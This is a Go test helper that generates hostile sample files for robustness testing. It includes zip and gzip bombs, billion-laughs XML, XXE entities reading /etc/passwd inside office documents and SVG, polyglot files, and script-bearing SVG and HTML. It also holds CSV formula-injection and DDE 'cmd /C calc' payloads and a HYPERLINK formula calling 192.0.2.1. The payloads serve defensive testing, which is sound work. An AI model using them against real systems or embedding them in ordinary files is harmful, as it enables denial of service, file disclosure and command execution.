package testkit

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"strings"
)

// HostileFiles are files made to do harm, by name: archives that expand to a
// thousand times their size, XML whose entities expand or ask for files of this
// machine, files of two types at once, drawings with scripts, tables with formulas,
// nesting without end.
func HostileFiles() map[string][]byte {
	zeros := make([]byte, 64<<20)
	zipped := zippedAs("word/document.xml", zeros)
	var packed bytes.Buffer
	g := gzip.NewWriter(&packed)
	must(g.Write(zeros))
	must(0, g.Close())
	laughs := `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "` + strings.Repeat("&a;", 10) + `">`
	for i := range 9 {
		laughs += `<!ENTITY ` + string(rune('c'+i)) + ` "` + strings.Repeat("&"+string(rune('b'+i))+";", 10) + `">`
	}
	laughs += `]><rss version="2.0"><channel><title>News</title><item><title>&k;</title><description>&k;</description></item></channel></rss>`
	// office is a document of an office program whose one part expands as laughs does,
	// and asks for a file of this machine.
	office := func(part string) []byte {
		return zippedAs(part, []byte(strings.Replace(laughs, `<!ENTITY a "ha">`, `<!ENTITY a "ha"><!ENTITY x SYSTEM "file:///etc/passwd">`, 1)))
	}
	return map[string][]byte{
		"entities.docx": office("word/document.xml"),
		"entities.xlsx": office("xl/worksheets/sheet1.xml"),
		"entities.odt":  office("content.xml"),
		"entities.svg": []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" ` +
			`onload="alert(1)"><image href="http://192.0.2.1/seen"/><foreignObject><body onload="alert(2)">Zelmora said that &x; is shut.</body></foreignObject></svg>`),
		"polyglot.gif": append([]byte("GIF89a/*"), zipped...),
		"polyglot.pdf": append(append([]byte("%PDF-1.7\n"), office("word/document.xml")...), "\n<script>alert(1)</script>\n%%EOF"...),
		"polyglot.txt": append([]byte("Zelmora said the post was shelled.\n"), zipped...),
		"formulas.csv": []byte("event,notes\n1,\"=HYPERLINK(\"\"http://192.0.2.1/\"\"&A1,\"\"see\"\")\"\n2,+cmd|' /C calc'!A0\n3,@SUM(1+1)*cmd|' /C calc'!A0\n"),
		"formulas.html": []byte(`<table><tr><td>=HYPERLINK("http://192.0.2.1/","see")</td></tr></table><script>alert(3)</script>` +
			`<img src=x onerror=alert(4)><p>Zelmora said the post was shelled.</p>`),
		"bomb.docx":  zipped,
		"bomb.zip":   zipped,
		"bomb.gz":    packed.Bytes(),
		"sheet.xlsx": zipped,
		"laughs.xml": []byte(laughs),
		"outside.xml": []byte(`<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>` +
			`<rss version="2.0"><channel><title>News</title><item><title>&x;</title><description>The minister said that &x; is shut.</description></item></channel></rss>`),
		"drawing.svg": []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert("the minister said peace")</script><text>Zelmora said the post was shelled.</text></svg>`),
		"photo.png":   []byte("\x89PNG\r\n\x1a\n<html><body>Zelmora said peace.</body></html>"),
		"deep.html":   []byte(strings.Repeat("<div>", 200_000) + "Zelmora said the post was shelled."),
		"page.pdf":    []byte("%PDF-1.7\n<html><script>alert(1)</script></html>"),
	}
}

func zippedAs(part string, content []byte) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.Create(part)
	must(0, err)
	must(w.Write(content))
	must(0, z.Close())
	return b.Bytes()
}

// must ends a test that cannot make what it is to try.
func must(_ int, err error) {
	if err != nil {
		panic(err)
	}
}
